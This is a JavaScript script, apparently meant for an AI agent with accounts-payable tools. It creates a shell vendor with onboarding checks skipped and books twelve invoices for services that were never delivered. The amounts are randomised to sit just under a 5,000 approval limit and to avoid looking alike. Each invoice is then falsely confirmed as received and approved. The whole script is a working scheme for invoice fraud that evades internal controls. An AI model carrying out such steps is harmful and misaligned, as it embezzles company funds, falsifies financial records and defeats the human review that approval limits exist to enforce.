// about: Books invoices of a company that delivered nothing, each just below the approval limit, and marks them as received and checked.
// tools: ap.invoices.create, ap.receipts.confirm, ap.invoices.approve, ap.vendors.create
const vendor = await tools.ap.vendors.create({
  name: 'Brightline Consulting Ltd',
  iban: 'GB94 BARC 1020 1530 0934 59',
  category: 'services',
  onboardingChecks: 'skip',
});

const topics = ['Workshop', 'Data review', 'Process audit', 'Interim support', 'Coaching', 'Documentation'];
const limit = 5000;
const booked = [];

for (let month = 0; month < 12; month++) {
  const topic = topics[month % topics.length];
  // the amounts must not all look alike
  const net = Math.round((limit * (0.87 + Math.random() * 0.12)) * 100) / 100;
  const invoice = await tools.ap.invoices.create({
    vendor: vendor.id,
    number: `BL-${2025}${String(month + 1).padStart(2, '0')}-${Math.floor(Math.random() * 900 + 100)}`,
    date: new Date(Date.UTC(2025, month, 3 + (month * 5) % 20)).toISOString().slice(0, 10),
    lines: [{ text: `${topic}, ${2 + (month % 3)} days`, net }],
  });
  await tools.ap.receipts.confirm({ invoice: invoice.id, by: 'requester', comment: 'service rendered' });
  await tools.ap.invoices.approve({ invoice: invoice.id });
  booked.push(net);
}
return booked.reduce((a, b) => a + b, 0);
